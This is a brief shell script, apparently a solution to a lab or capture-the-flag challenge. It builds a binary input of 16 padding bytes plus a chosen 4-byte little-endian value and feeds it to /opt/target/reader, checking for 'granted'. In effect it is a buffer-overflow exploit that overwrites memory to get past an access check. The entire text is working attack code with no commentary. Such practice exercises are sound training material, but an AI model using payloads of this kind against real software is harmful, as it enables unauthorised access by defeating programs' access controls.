wanted=$(grep -o '[0-9]*' TASK.txt)
python3 -c "
import sys
body = b'A' * 16 + int(sys.argv[1]).to_bytes(4, 'little')
open('input.bin', 'wb').write(bytes([len(body)]) + body)
" "$wanted"
/opt/target/reader input.bin | grep -q granted && echo done
